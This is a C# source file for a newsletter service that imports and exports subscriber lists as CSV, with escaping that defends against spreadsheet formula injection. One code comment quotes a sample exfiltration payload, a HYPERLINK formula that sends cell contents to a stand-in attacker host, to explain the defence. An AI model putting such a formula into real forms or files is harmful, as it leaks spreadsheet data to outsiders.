using System.Globalization;
using CsvHelper;
using CsvHelper.Configuration;
using Microsoft.Extensions.Logging;

namespace Syndicate.Subscribers;

/// <summary>
/// Subscribers in and out as CSV, in the shapes listmonk and Mailchimp export: a header row naming
/// the email column in any common way (email, Email Address, e-mail) and optionally a name (name,
/// or First Name and Last Name). A bad line is reported with its number (a record over several lines: its first) and
/// skipped, a record with a stray or unbalanced quote among them; an address
/// that unsubscribed earlier is never imported again, and a line whose status column says unsubscribed (our
/// export) or blocklisted (listmonk) is kept as a suppression, not added. A field that a spreadsheet would run as a
/// formula is exported with an apostrophe in front, and the import takes that apostrophe off again.
/// </summary>
internal sealed class SubscriberCsv(SubscriberStore store, TimeProvider time, ILogger<SubscriberCsv> logger)
{
    private static readonly string[] EmailHeaders = ["email", "emailaddress", "e-mail", "e-mailaddress", "mail", "email_address", "emailaddr"];
    private static readonly string[] NameHeaders = ["name", "fullname", "full_name", "displayname"];
    private static readonly string[] FirstNameHeaders = ["firstname", "first_name", "fname", "givenname"];
    private static readonly string[] LastNameHeaders = ["lastname", "last_name", "lname", "surname", "familyname"];
    private static readonly string[] StatusHeaders = ["status"];

    // A status column that says the address left (Syndicate's export: unsubscribed; listmonk: blocklisted) keeps it a suppression.
    private static readonly string[] LeftStatuses = ["unsubscribed", "blocklisted"];

    // A spreadsheet opening a CSV file runs a cell that starts with one of these as a formula (or a DDE command): a name such as
    // =HYPERLINK("http://evil.example/?x="&A2,"Click") typed into the subscribe form would be live in the operator's spreadsheet.
    private static readonly char[] FormulaStarts = ['=', '+', '-', '@', '\t', '\r'];

    // Spreadsheets show a cell that starts with an apostrophe as the text after it.
    private const char FormulaEscape = '\'';

    public async Task<ImportReport> ImportAsync(TextReader reader, string sourceName, bool confirmed, IProgress<int>? progress,
        CancellationToken cancellationToken)
    {
        var quotes = new BadQuote();
        var configuration = new CsvConfiguration(CultureInfo.InvariantCulture)
        {
            DetectDelimiter = true,
            // A stray or unbalanced quote marks the record it is in; that record is reported, not imported (see Import.ReadAsync).
            BadDataFound = args => quotes.Field ??= args.Field,
            MissingFieldFound = null,
            // Blank lines come through as empty records (and are skipped below), so that the raw text of the records is
            // the whole file and counting its line breaks gives every record the line it starts on.
            IgnoreBlankLines = false,
            TrimOptions = TrimOptions.Trim,
        };
        using var parser = new CsvParser(reader, configuration);
        string[]? header = null;
        long line = 1;
        for (quotes.Field = null; await parser.ReadAsync(); quotes.Field = null)
        {
            line += LineBreaks(parser.RawRecord);
            if (parser.Record is { } fields && (quotes.Field is not null || !fields.All(string.IsNullOrWhiteSpace)))
            {
                header = fields;
                break;
            }
        }

        if (header is null)
        {
            return ImportReport.Failed("the file is empty; it needs a header row such as: email,name");
        }

        if (header.Any(LooksBinary))
        {
            return ImportReport.Failed("this does not look like CSV text: its first line has NUL or control characters, or bytes that are not UTF-8; "
                + "export the list as CSV (UTF-8) and import that file");
        }

        if (quotes.Field is not null)
        {
            return ImportReport.Failed("the header row has a stray or unbalanced quote; fix the quotes in the header row (such as: email,name)");
        }

        var emailColumn = Find(header, EmailHeaders);
        if (emailColumn < 0)
        {
            var names = string.Join(", ", header);
            return ImportReport.Failed($"no email column in the header row ({(names.Length > 200 ? names[..200] + "..." : names)}); name one column email, Email Address or e-mail");
        }

        var import = new Import(confirmed ? SubscriberStatus.Active : SubscriberStatus.Pending, time.GetUtcNow(), progress, cancellationToken)
        {
            Configuration = configuration with { DetectDelimiter = false, Delimiter = parser.Delimiter },
            Quotes = quotes,
            EmailColumn = emailColumn,
            NameColumn = Find(header, NameHeaders),
            FirstColumn = Find(header, FirstNameHeaders),
            LastColumn = Find(header, LastNameHeaders),
            StatusColumn = Find(header, StatusHeaders),
        };
        await using var connection = await store.OpenAsync(cancellationToken);
        import.Connection = connection;
        import.Transaction = await connection.BeginTransactionAsync(cancellationToken);
        try
        {
            await import.ReadAsync(parser, line);
            await import.Transaction.CommitAsync(cancellationToken);
            progress?.Report(import.Read);
        }
        finally
        {
            await import.Transaction.DisposeAsync();
        }

        var report = import.Report;
        SubscribersLog.Imported(logger, sourceName, report.Added, report.Known, report.Suppressed, report.Invalid.Count);
        return report;
    }

    public async Task<int> ExportAsync(TextWriter writer, CancellationToken cancellationToken)
    {
        var subscribers = await store.ListAsync(null, cancellationToken);
        var configuration = new CsvConfiguration(CultureInfo.InvariantCulture)
        {
            // A field that starts with a formula character is written with the apostrophe in front (and quoted).
            InjectionOptions = InjectionOptions.Escape,
            InjectionCharacters = FormulaStarts,
            InjectionEscapeCharacter = FormulaEscape,
        };
        await using var csv = new CsvWriter(writer, configuration, leaveOpen: true);
        foreach (var heading in (string[])["email", "name", "status", "created_at", "confirmed_at", "unsubscribed_at"])
        {
            csv.WriteField(heading);
        }

        await csv.NextRecordAsync();
        foreach (var subscriber in subscribers)
        {
            csv.WriteField(EscapeApostrophes(subscriber.Email));
            csv.WriteField(EscapeApostrophes(subscriber.Name));
            csv.WriteField(SubscriberStore.StatusText(subscriber.Status));
            csv.WriteField(Iso(subscriber.CreatedAt));
            csv.WriteField(Iso(subscriber.ConfirmedAt));
            csv.WriteField(Iso(subscriber.UnsubscribedAt));
            await csv.NextRecordAsync();
        }

        await csv.FlushAsync();
        return subscribers.Count;
    }

    /// <summary>
    /// A value that already looks escaped (apostrophes, then a formula character) gets one more apostrophe on export, so
    /// that the import, which takes one off, gives it back unchanged: '=x is exported as ''=x.
    /// </summary>
    private static string EscapeApostrophes(string value) => LooksEscaped(value) ? FormulaEscape + value : value;

    /// <summary>Takes off the apostrophe the export puts before a formula character (or before an apostrophe it doubled).</summary>
    private static string? Unescape(string? value) => value is not null && LooksEscaped(value) ? value[1..] : value;

    private static bool LooksEscaped(string value)
    {
        var i = 0;
        while (i < value.Length && value[i] == FormulaEscape)
        {
            i++;
        }

        return i > 0 && i < value.Length && FormulaStarts.Contains(value[i]);
    }

    private static async Task<bool> IsUnsubscribedAsync(System.Data.Common.DbConnection connection, System.Data.Common.DbTransaction transaction, string address)
    {
        var status = await Dapper.SqlMapper.ExecuteScalarAsync<string?>(connection,
            "SELECT status FROM subscribers WHERE email_key = @key", new { key = EmailAddressRule.Key(address) }, transaction);
        return status == "unsubscribed";
    }

    /// <summary>Line breaks in raw CSV text, counted as CsvHelper counts them: CRLF, LF and a lone CR each end a line.</summary>
    private static int LineBreaks(string text)
    {
        var breaks = 0;
        for (var i = 0; i < text.Length; i++)
        {
            if (text[i] == '\n' || (text[i] == '\r' && (i + 1 == text.Length || text[i + 1] != '\n')))
            {
                breaks++;
            }
        }

        return breaks;
    }

    /// <summary>A header field with NUL or control characters, or U+FFFD (bytes that were not UTF-8): the file is not CSV text.</summary>
    private static bool LooksBinary(string field) =>
        field.Any(c => c == '\uFFFD' || (char.IsControl(c) && c is not ('\t' or '\r' or '\n')));

    private static string? Field(string[] fields, int column) => column >= 0 && column < fields.Length ? fields[column] : null;

    /// <summary>The raw text of the first field CsvHelper found bad (a stray or unbalanced quote) in the record just read.</summary>
    private sealed class BadQuote
    {
        public string? Field { get; set; }
    }

    /// <summary>One import: the records after the header row, written in batches, with the report of what happened to each line.</summary>
    private sealed class Import(SubscriberStatus status, DateTimeOffset now, IProgress<int>? progress, CancellationToken cancellationToken)
    {
        private readonly HashSet<string> _seen = new(StringComparer.Ordinal);

        // Rows written since the start (for batch commits).
        private int _rows;

        public required CsvConfiguration Configuration { get; init; }

        public required BadQuote Quotes { get; init; }

        public required int EmailColumn { get; init; }

        public int NameColumn { get; init; }

        public int FirstColumn { get; init; }

        public int LastColumn { get; init; }

        public int StatusColumn { get; init; }

        public System.Data.Common.DbConnection Connection { get; set; } = null!;

        public System.Data.Common.DbTransaction Transaction { get; set; } = null!;

        public ImportReport Report { get; } = new();

        /// <summary>Rows read, invalid and repeated ones included (for progress).</summary>
        public int Read { get; private set; }

        /// <summary>Imports every record <paramref name="parser"/> reads; <paramref name="line"/> is the line of the file its text starts on.</summary>
        public async Task ReadAsync(CsvParser parser, long line)
        {
            for (Quotes.Field = null; await parser.ReadAsync(); Quotes.Field = null)
            {
                cancellationToken.ThrowIfCancellationRequested();
                var fields = parser.Record ?? [];
                var raw = parser.RawRecord;
                var first = line;
                line += LineBreaks(raw);
                if (Quotes.Field is null && fields.All(string.IsNullOrWhiteSpace))
                {
                    continue;
                }

                if (++Read % 1000 == 0)
                {
                    progress?.Report(Read);
                }

                if (Quotes.Field is { } bad)
                {
                    await BadQuoteAsync(raw, first, bad);
                }
                else
                {
                    await AddAsync(fields, first);
                }
            }
        }

        /// <summary>
        /// A record with a stray or unbalanced quote is reported and not imported: what its fields hold is a guess. When
        /// the quote made several lines one record (an opening quote never closed swallows every line up to the next quote,
        /// or to the end of the file), the lines after the first are read again on their own, so the subscribers on them
        /// are still imported or reported each with its own line. This is always possible because the record's raw text is
        /// exactly those lines, and re-reading loses nothing: a line that is bad on its own is reported in turn.
        /// </summary>
        private async Task BadQuoteAsync(string raw, long first, string field)
        {
            var breaks = LineBreaks(raw);
            var last = first + breaks - (raw.EndsWith('\n') || raw.EndsWith('\r') ? 1 : 0);
            if (last <= first)
            {
                Report.Invalid.Add((first, field.Count(c => c == '"') % 2 == 1
                    ? $"unbalanced quote in {Shown(field)}: close the quote or remove it"
                    : $"stray quote in {Shown(field)}: inside a field write a quote as two (\"\") and put the field in quotes, or remove it"));
                return;
            }

            var again = last == first + 1 ? $"line {last} was" : $"lines {first + 1}-{last} were";
            Report.Invalid.Add((first,
                $"unbalanced quote: lines {first}-{last} were read as one record; close the quote or remove it ({again} read again on their own)"));
            var end = raw.IndexOfAny(['\r', '\n']);
            end += raw[end] == '\r' && end + 1 < raw.Length && raw[end + 1] == '\n' ? 2 : 1;
            using var rest = new CsvParser(new StringReader(raw[end..]), Configuration);
            await ReadAsync(rest, first + 1);
        }

        private static string Shown(string field)
        {
            var text = new string([.. field.Trim().Select(c => char.IsControl(c) ? ' ' : c)]);
            return $"'{(text.Length > 60 ? text[..60] + "..." : text)}'";
        }

        private async Task AddAsync(string[] fields, long line)
        {
            var email = Unescape(Field(fields, EmailColumn));
            if (!EmailAddressRule.TryNormalize(email, out var address, out var error))
            {
                Report.Invalid.Add((line, error));
                return;
            }

            var name = NameColumn >= 0
                ? Unescape(Field(fields, NameColumn))
                : string.Join(' ', new[] { FirstColumn, LastColumn }.Where(c => c >= 0).Select(c => Unescape(Field(fields, c))).Where(s => !string.IsNullOrWhiteSpace(s)));
            if (!_seen.Add(EmailAddressRule.Key(address)))
            {
                Report.Known++;
                return;
            }

            var left = StatusColumn >= 0 && LeftStatuses.Contains(Field(fields, StatusColumn)?.Trim().ToLowerInvariant());
            var added = await SubscriberStore.TryAddAsync(Connection, Transaction, address, SubscriptionService.CleanName(name),
                left ? SubscriberStatus.Unsubscribed : status, "import", now);
            if (added is not null)
            {
                if (left)
                {
                    Report.Suppressed++;
                }
                else
                {
                    Report.Added++;
                }
            }
            else if (await IsUnsubscribedAsync(Connection, Transaction, address))
            {
                Report.Suppressed++;
            }
            else
            {
                Report.Known++;
            }

            if (++_rows % 1000 == 0)
            {
                // Commit in batches: a long import does not hold the write lock the service needs.
                await Transaction.CommitAsync(cancellationToken);
                await Transaction.DisposeAsync();
                Transaction = await Connection.BeginTransactionAsync(cancellationToken);
            }
        }
    }

    private static int Find(string[] header, string[] names)
    {
        for (var i = 0; i < header.Length; i++)
        {
            var normalized = header[i].Trim().Trim('\uFEFF').Replace(" ", "", StringComparison.Ordinal).ToLowerInvariant();
            if (names.Contains(normalized))
            {
                return i;
            }
        }

        return -1;
    }

    private static string Iso(DateTimeOffset? value) =>
        value?.UtcDateTime.ToString("yyyy-MM-dd'T'HH:mm:ss'Z'", CultureInfo.InvariantCulture) ?? "";
}

/// <summary>What an import did, with the line number and reason of every line left out as invalid.</summary>
internal sealed class ImportReport
{
    public int Added { get; set; }

    public int Known { get; set; }

    public int Suppressed { get; set; }

    public List<(long Line, string Reason)> Invalid { get; } = [];

    public string? Error { get; private init; }

    public static ImportReport Failed(string error) => new() { Error = error };
}
